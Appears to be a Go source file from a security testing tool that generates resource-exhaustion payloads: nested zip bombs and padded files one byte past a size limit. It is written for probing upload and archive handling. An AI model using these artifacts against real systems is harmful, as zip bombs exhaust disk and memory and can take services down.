// Package bomb builds filesystem resource-exhaustion artifacts: nested zip
// archives that expand disproportionately to their size on disk, and padded
// files of a requested size. Artifacts are written under a caller-supplied
// directory; nothing here touches the network.
package bomb

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"github.com/injectest/injectest/pkg/payload"
)

// writeChunk is the padding block size for FileOfSize.
const writeChunk = 64 * 1024

// FileOfSize creates a file of size+1 bytes in dir and returns its path.
// The extra byte pushes the file just past any consumer that validates
// against the nominal size with an inclusive bound.
func FileOfSize(dir string, size int64) (string, error) {
	if size < 1 {
		return "", payload.GenerationErrorf("file size must be at least 1 byte, got %d", size)
	}

	f, err := os.CreateTemp(dir, "padded-*.bin")
	if err != nil {
		return "", fmt.Errorf("bomb: create padded file: %w", err)
	}
	defer f.Close()

	remaining := size + 1
	chunk := make([]byte, writeChunk)
	for remaining > 0 {
		n := int64(len(chunk))
		if remaining < n {
			n = remaining
		}
		if _, err := f.Write(chunk[:n]); err != nil {
			return "", fmt.Errorf("bomb: pad %s: %w", f.Name(), err)
		}
		remaining -= n
	}
	return f.Name(), nil
}

// ZipBomb builds a nested archive in dir from baseFile and returns the
// path of the outermost archive. Nesting works bottom-up: the leaf archive
// wraps the base file, and each of the depth levels above it holds exactly
// width copies of the level below, every entry carrying the .zip suffix.
// The outermost archive therefore contains width entries, all archives.
func ZipBomb(dir, baseFile string, depth, width int) (string, error) {
	if depth < 1 {
		return "", payload.GenerationErrorf("zip bomb depth must be at least 1, got %d", depth)
	}
	if width < 1 {
		return "", payload.GenerationErrorf("zip bomb width must be at least 1, got %d", width)
	}

	base, err := os.ReadFile(baseFile)
	if err != nil {
		return "", fmt.Errorf("bomb: read base file: %w", err)
	}

	// Leaf level: the base file under its own name.
	level, err := zipEntries(filepath.Base(baseFile), base, 1)
	if err != nil {
		return "", err
	}

	for l := 1; l <= depth; l++ {
		entryName := fmt.Sprintf("layer%d.zip", l-1)
		level, err = zipEntries(entryName, level, width)
		if err != nil {
			return "", err
		}
	}

	out := filepath.Join(dir, fmt.Sprintf("bomb-d%d-w%d.zip", depth, width))
	if err := os.WriteFile(out, level, 0o644); err != nil {
		return "", fmt.Errorf("bomb: write archive: %w", err)
	}
	return out, nil
}

// zipEntries builds an archive holding count copies of content. A single
// copy keeps the given name; multiple copies get an index suffix before
// the extension so entry names stay unique within the archive.
func zipEntries(name string, content []byte, count int) ([]byte, error) {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for i := 0; i < count; i++ {
		entryName := name
		if count > 1 {
			ext := filepath.Ext(name)
			entryName = fmt.Sprintf("%s-%d%s", name[:len(name)-len(ext)], i, ext)
		}
		entry, err := w.Create(entryName)
		if err != nil {
			return nil, fmt.Errorf("bomb: create entry %s: %w", entryName, err)
		}
		if _, err := io.Copy(entry, bytes.NewReader(content)); err != nil {
			return nil, fmt.Errorf("bomb: write entry %s: %w", entryName, err)
		}
	}
	if err := w.Close(); err != nil {
		return nil, fmt.Errorf("bomb: finalize archive: %w", err)
	}
	return buf.Bytes(), nil
}

// OuterEntries lists the entry names of the outermost archive at path.
func OuterEntries(path string) ([]string, error) {
	r, err := zip.OpenReader(path)
	if err != nil {
		return nil, fmt.Errorf("bomb: open archive: %w", err)
	}
	defer r.Close()

	names := make([]string, 0, len(r.File))
	for _, f := range r.File {
		names = append(names, f.Name)
	}
	return names, nil
}
